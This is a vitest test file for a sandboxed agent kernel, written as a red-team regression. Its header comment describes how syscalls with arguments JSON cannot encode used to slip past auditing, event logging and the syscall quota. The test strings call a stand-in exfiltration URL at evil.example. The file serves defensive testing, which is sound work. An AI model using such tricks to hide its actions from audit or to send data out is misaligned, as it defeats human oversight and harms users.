// Attack: make syscall attempts that leave no trace, by giving them arguments JSON cannot encode (red-team pass 151).
// The prelude refused such a call in the guest, so the kernel never saw it: a call naming an exfiltration URL beside
// a BigInt, a function, a cycle or a throwing getter, a spawn, a memory write or a snapshot state superjson refuses
// left no audit record, no `syscall` event and no count, and 10,000 of them under `syscalls: 5` ran on. The attempt
// now crosses without its arguments: the kernel counts it, records it (`{ unencodable: true }`) and refuses it.
import { describe, expect, it } from 'vitest';
import { ISOLATION_MODES, testKernel } from '../helpers/kernel.js';

const ATTEMPTS = [
  `sys.tool('echo', { url: 'https://evil.example/?pin=4921', n: 1n })`,
  `sys.tool('echo', { url: 'https://evil.example/?pin=4921', f() {} })`,
  `(() => { const o = { url: 'https://evil.example/' }; o.self = o; return sys.tool('echo', o); })()`,
  `sys.tool('echo', { get url() { throw new Error('x'); } })`,
  `sys.spawn({ code: 'export default () => 1', input: 1n })`,
  `sys.mem.put('k', { v: 1n })`,
  `sys.snapshot({ constructor: 1 })`,
];
const SYSCALLS = ['tool', 'tool', 'tool', 'tool', 'spawn', 'mem.put', 'snapshot'];

describe.each(ISOLATION_MODES)('%s tier', (isolation) => {
  it('each attempt is counted, recorded and refused', async () => {
    const kernel = testKernel({
      isolation,
      policy: {
        capabilities: [
          { action: 'echo', resource: 'echo' },
          { action: 'agent.spawn', resource: '*' },
        ],
      },
    });
    try {
      const events: { syscall?: string }[] = [];
      kernel.on('syscall', (event) => events.push(event as { syscall?: string }));
      const result = await kernel.run({
        code: `export default async () => {
          const codes = [];
          for (const attempt of [${ATTEMPTS.map((a) => `() => ${a}`).join(', ')}]) {
            try { await attempt(); codes.push('ok'); } catch (e) { codes.push(e.code); }
          }
          return codes;
        }`,
      });
      expect(result).toMatchObject({ ok: true, value: ATTEMPTS.map(() => 'E_BAD_ARG') });
      expect(result.usage.syscalls).toBeGreaterThanOrEqual(ATTEMPTS.length);
      const outcomes = kernel.audit
        .records({ limit: 1000 })
        .filter((r) => r.phase === 'outcome' && r.agent !== 'host' && r.code === 'E_BAD_ARG');
      expect(outcomes.map((r) => [r.syscall, r.status])).toEqual(SYSCALLS.map((name) => [name, 'denied']));
      expect(events.length).toBeGreaterThanOrEqual(ATTEMPTS.length);
    } finally {
      await kernel.close();
    }
  }, 30_000);

  it('a flood of them is stopped by the syscalls budget', async () => {
    const kernel = testKernel({ isolation, policy: { capabilities: [{ action: 'echo', resource: 'echo' }] } });
    try {
      const result = await kernel.run({
        code: `export default async () => {
          for (let i = 0; i < 10000; i++) await sys.tool('echo', { n: 1n }).catch(() => {});
          return 'ran on';
        }`,
        limits: { syscalls: 5 },
      });
      expect(result).toMatchObject({ ok: false, error: { code: 'E_QUOTA', message: 'quota exceeded: syscalls' } });
    } finally {
      await kernel.close();
    }
  }, 30_000);
});
